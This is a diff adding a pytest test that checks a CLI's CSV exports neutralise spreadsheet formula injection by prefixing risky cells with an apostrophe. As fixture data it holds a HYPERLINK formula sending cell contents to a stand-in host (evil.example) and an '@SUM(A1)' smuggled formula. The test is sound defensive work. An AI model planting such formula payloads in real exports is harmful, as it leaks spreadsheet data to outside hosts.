@@ -159,3 +159,21 @@ def test_listings_as_csv_and_markdown(store: Cli) -> None:
         assert "@acme" not in prose and "<a " not in prose
     refused = store("runs", "list", "--format", "csv", "--json")
     assert refused.exit_code == 2 and "choose one" in refused.stderr
+
+
+def test_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    # Report text that a spreadsheet would run on opening (=, +, -, @) is made inert with an apostrophe;
+    # numbers stay numbers.
+    cli = Cli(tmp_path / "s.db", "shop")
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    cases = [
+        junit_case("test_sum", "failed", classname="@SUM(A1)", message=formula),
+        junit_case("test_plain", "failed", classname="t", message="-1 != 1"),
+    ]
+    ingest(cli, tmp_path, "r1", cases)
+    failures = list(csv.DictReader(io.StringIO(cli("failures", "--all", "--format", "csv", code=0).stdout)))
+    messages = {f["message"] for f in failures}
+    assert messages == {"'" + formula, "'-1 != 1"}
+    assert {f["test_names"] for f in failures} == {"'@SUM(A1)::test_sum", "t::test_plain"}
+    runs = list(csv.DictReader(io.StringIO(cli("runs", "list", "--format", "csv", code=0).stdout)))
+    assert runs[0]["failed"] == "2" and runs[0]["run_id"] == "r1"
